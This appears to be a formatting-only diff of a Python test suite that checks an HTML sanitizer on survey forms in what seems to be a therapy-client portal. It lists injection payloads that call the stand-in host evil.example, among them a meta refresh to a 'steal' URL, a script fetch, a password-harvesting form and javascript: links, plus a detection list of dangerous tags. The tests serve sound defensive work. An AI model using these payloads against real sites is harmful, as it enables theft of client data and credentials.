@@ -19,30 +19,69 @@ ROOT = Path(__file__).resolve().parents[3]
 REFRESH = '<meta http-equiv="refresh" content="0;url=https://evil.example/steal">'
 # Markup a therapist might put in a form, each of which must not reach a client's browser as written.
 ATTACKS = (
-    REFRESH, "<script>fetch('https://evil.example')</script>", '<img src="https://evil.example/p.gif">',
-    '<iframe src="https://evil.example"></iframe>', '<a href="javascript:alert(1)">x</a>',
-    '<form action="https://evil.example"><input name="password"></form>', '<p onclick="alert(1)">x</p>',
-    '<base href="https://evil.example/">', '<link rel="stylesheet" href="https://evil.example/x.css">',
-    '<style>@import url(https://evil.example/x.css)</style>', '<object data="https://evil.example"></object>',
-    '<svg><a href="https://evil.example"><text>x</text></a></svg>', '<p style="background:url(https://evil.example)">x</p>',
+    REFRESH,
+    "<script>fetch('https://evil.example')</script>",
+    '<img src="https://evil.example/p.gif">',
+    '<iframe src="https://evil.example"></iframe>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<form action="https://evil.example"><input name="password"></form>',
+    '<p onclick="alert(1)">x</p>',
+    '<base href="https://evil.example/">',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    "<style>@import url(https://evil.example/x.css)</style>",
+    '<object data="https://evil.example"></object>',
+    '<svg><a href="https://evil.example"><text>x</text></a></svg>',
+    '<p style="background:url(https://evil.example)">x</p>',
 )
-DANGER = ("<meta", "<script", "<img", "<iframe", "javascript:", "<form", "<input", "onclick", "<base", "<link",
-          "<style", "@import", "<object", "<svg", "style=", "evil.example/p.gif", "evil.example/x.css")
+DANGER = (
+    "<meta",
+    "<script",
+    "<img",
+    "<iframe",
+    "javascript:",
+    "<form",
+    "<input",
+    "onclick",
+    "<base",
+    "<link",
+    "<style",
+    "@import",
+    "<object",
+    "<svg",
+    "style=",
+    "evil.example/p.gif",
+    "evil.example/x.css",
+)
 
 
 def _everywhere(markup: str) -> dict:
     """A definition carrying `markup` in every property survey-js-ui renders as HTML."""
     return {
-        "completedHtml": markup, "completedBeforeHtml": markup, "loadingHtml": {"default": markup, "fr": markup},
+        "completedHtml": markup,
+        "completedBeforeHtml": markup,
+        "loadingHtml": {"default": markup, "fr": markup},
         "completedHtmlOnCondition": [{"expression": "{age} > 1", "html": markup}],
         "navigateToUrl": "https://evil.example/steal",
         "navigateToUrlOnCondition": [{"expression": "{age} > 1", "url": "https://evil.example/steal"}],
-        "pages": [{"name": "p1", "elements": [
-            {"type": "html", "name": "intro", "html": f"<p>Welcome</p>{markup}"},
-            {"type": "text", "name": "age", "inputType": "number"},
-            {"type": "panel", "name": "box", "elements": [{"type": "html", "name": "inner", "html": {"default": markup}}]},
-            {"type": "paneldynamic", "name": "kids", "templateElements": [
-                {"type": "html", "name": "kid_note", "html": markup}]}]}],
+        "pages": [
+            {
+                "name": "p1",
+                "elements": [
+                    {"type": "html", "name": "intro", "html": f"<p>Welcome</p>{markup}"},
+                    {"type": "text", "name": "age", "inputType": "number"},
+                    {
+                        "type": "panel",
+                        "name": "box",
+                        "elements": [{"type": "html", "name": "inner", "html": {"default": markup}}],
+                    },
+                    {
+                        "type": "paneldynamic",
+                        "name": "kids",
+                        "templateElements": [{"type": "html", "name": "kid_note", "html": markup}],
+                    },
+                ],
+            }
+        ],
     }
 
 
@@ -80,7 +119,9 @@ def test_hole11_every_html_property_is_cleaned_on_save_and_publish(clean_db, mar
 def test_hole11_draft_saved_before_sanitizing_is_cleaned_at_publish(clean_db):
     """Is a draft stored before sanitizing existed cleaned when it is published?"""
     admin = staff_actor(make_staff(roles=("org_admin",)))
-    form_service.create_form(admin, "old", "dynamic", "Old", {"elements": [{"type": "html", "name": "n", "html": "<p>x</p>"}]})
+    form_service.create_form(
+        admin, "old", "dynamic", "Old", {"elements": [{"type": "html", "name": "n", "html": "<p>x</p>"}]}
+    )
     FormDefinition.objects(key="old").update_one(set__draft=_everywhere(REFRESH))
     version = form_service.publish(admin, "old")
     assert _dangers(version.definition) == []
@@ -93,10 +134,22 @@ def test_hole11_version_published_before_sanitizing_is_served_clean(clean_db, cl
     from tests.helpers import api_login, make_portal_account
 
     definition = _everywhere(REFRESH)
-    version = FormVersion(key="old_form", number=1, kind="intake", title="Old", definition_json=canonical_json(definition),
-                          sha256="0" * 64).save()
-    FormDefinition(key="old_form", kind="intake", title="Old", draft=definition, latest_version=1,
-                   latest_version_id=version.id).save()
+    version = FormVersion(
+        key="old_form",
+        number=1,
+        kind="intake",
+        title="Old",
+        definition_json=canonical_json(definition),
+        sha256="0" * 64,
+    ).save()
+    FormDefinition(
+        key="old_form",
+        kind="intake",
+        title="Old",
+        draft=definition,
+        latest_version=1,
+        latest_version_id=version.id,
+    ).save()
     person = make_client()
     account = make_portal_account(client=person)
     task = request_form(person, "old_form")
@@ -106,8 +159,11 @@ def test_hole11_version_published_before_sanitizing_is_served_clean(clean_db, cl
     served = client.get(f"/api/v1/tasks/{task.id}", headers=headers).get_json()
     assert served["form"]["pages"][0]["elements"][0]["html"] == "<p>Welcome</p>"
     assert _dangers(served["form"]) == []
-    opened = client.get(f"/api/v1/clients/{person.id}/forms/old_form", headers=headers,
-                        query_string={"context": f"task:{task.id}"}).get_json()
+    opened = client.get(
+        f"/api/v1/clients/{person.id}/forms/old_form",
+        headers=headers,
+        query_string={"context": f"task:{task.id}"},
+    ).get_json()
     assert _dangers(opened["definition"]) == []
 
 
@@ -116,7 +172,7 @@ def test_formatting_survives_and_shipped_templates_are_unchanged():
     of the sanitizer exactly as written (their markup is all allowed)?"""
     from engine.forms.sanitize import clean_html, sanitize_definition
 
-    kept = '<p>Read <strong>this</strong> and <em>that</em>:</p><ul><li>one</li></ul>'
+    kept = "<p>Read <strong>this</strong> and <em>that</em>:</p><ul><li>one</li></ul>"
     assert clean_html(kept) == kept
     link = clean_html('<a href="https://example.org/npp" target="_top">notice</a>')
     assert link == '<a href="https://example.org/npp" rel="noopener noreferrer">notice</a>'
@@ -160,15 +216,35 @@ def test_hole11_answers_are_not_written_into_html_as_markup(clean_db):
     if shutil.which("node") is None or not core.exists():
         pytest.fail("node and web/node_modules (./dev setup) are needed to ask survey-core")
     admin = staff_actor(make_staff(roles=("org_admin",)))
-    definition = {"completedHtml": "<p>Thank you, {name}</p>", "elements": [
-        {"type": "text", "name": "name"}, {"type": "html", "name": "hello", "html": "<p>Hello {name}</p>"},
-        {"type": "paneldynamic", "name": "kids", "templateElements": [
-            {"type": "text", "name": "kid"}, {"type": "html", "name": "kid_note", "html": "<i>{panel.kid}</i>"}]}]}
+    definition = {
+        "completedHtml": "<p>Thank you, {name}</p>",
+        "elements": [
+            {"type": "text", "name": "name"},
+            {"type": "html", "name": "hello", "html": "<p>Hello {name}</p>"},
+            {
+                "type": "paneldynamic",
+                "name": "kids",
+                "templateElements": [
+                    {"type": "text", "name": "kid"},
+                    {"type": "html", "name": "kid_note", "html": "<i>{panel.kid}</i>"},
+                ],
+            },
+        ],
+    }
     form_service.create_form(admin, "greeting", "dynamic", "Greeting", definition)
     saved = FormDefinition.objects(key="greeting").get().draft
     data = {"name": REFRESH, "kids": [{"kid": REFRESH}]}
-    out = subprocess.run(["node", "-e", _RENDER, str(core)], input=json.dumps({"definition": saved, "data": data}),
-                         capture_output=True, text=True, timeout=60, check=True)
+    out = subprocess.run(
+        ["node", "-e", _RENDER, str(core)],
+        input=json.dumps({"definition": saved, "data": data}),
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=True,
+    )
     rendered = json.loads(out.stdout)
-    assert rendered == {"html": ["<p>Hello &#123;name&#125;</p>", "<i>&#123;panel.kid&#125;</i>"],
-                        "panels": ["<i>&#123;panel.kid&#125;</i>"], "completed": "<p>Thank you, &#123;name&#125;</p>"}
+    assert rendered == {
+        "html": ["<p>Hello &#123;name&#125;</p>", "<i>&#123;panel.kid&#125;</i>"],
+        "panels": ["<i>&#123;panel.kid&#125;</i>"],
+        "completed": "<p>Thank you, &#123;name&#125;</p>",
+    }
